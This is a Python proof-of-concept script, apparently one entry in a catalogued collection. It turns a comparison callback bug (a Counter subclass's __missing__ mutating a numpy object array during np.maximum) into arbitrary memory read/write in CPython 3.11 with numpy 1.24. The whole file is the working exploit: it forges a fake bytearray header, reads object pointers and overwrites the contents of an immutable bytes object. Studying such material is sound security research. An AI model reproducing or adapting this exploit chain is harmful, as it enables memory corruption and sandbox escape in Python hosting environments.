# source: CPython 3.11 Lib/collections/__init__.py Counter.__eq__/__ne__ (self[e] == other[e] over both key sets) -> __missing__ of a Counter subclass; numpy 1.24 OBJECT_maximum
# family: compare-only dunder comparing Counter subclasses; __missing__ (not a comparison name) holds the script code
# goal: arbitrary memory read/write (rewrites an immutable bytes object)
import collections
import numpy as np


class Tally(collections.Counter):
    def __missing__(self, key):
        a[0] = 0
        return 0


class Quote:
    def __init__(self):
        self.c = Tally(x=1)
        self.d = Tally(y=1)

    def __le__(self, other):
        return self.c != self.d


def make():
    return Quote()


class Box:
    __slots__ = ("v",)


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


def q(n):
    return n.to_bytes(8, "little")


BA = addr_of_type(bytearray)
a = np.empty(1, dtype=object)
b = np.empty(1, dtype=object)
drain = [bytearray(632) for _ in range(16)]
a[0] = bytes(600)
b[0] = make()
out = np.maximum(a, b)
buf = bytearray(632)
buf[0:56] = q(1 << 40) + q(BA) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
mem = out[0]
print(type(mem), len(mem) == 1 << 62)


def rd(p):
    return int.from_bytes(mem[p:p + 8], "little")


box = Box()
secret = bytes([73, 77, 77, 85, 84, 65, 66, 76, 69])
box.v = secret
bx = int(repr(box).split(" at ")[1][:-1], 16)
print("Box at", hex(bx), "its type pointer", hex(rd(bx + 8)))
sp = rd(bx + 16)
print("bytes object at", hex(sp), "reads", bytes(mem[sp + 32:sp + 41]))
mem[sp + 32:sp + 41] = bytes([67, 72, 65, 78, 71, 69, 68, 33, 33])
print("immutable bytes now", secret)
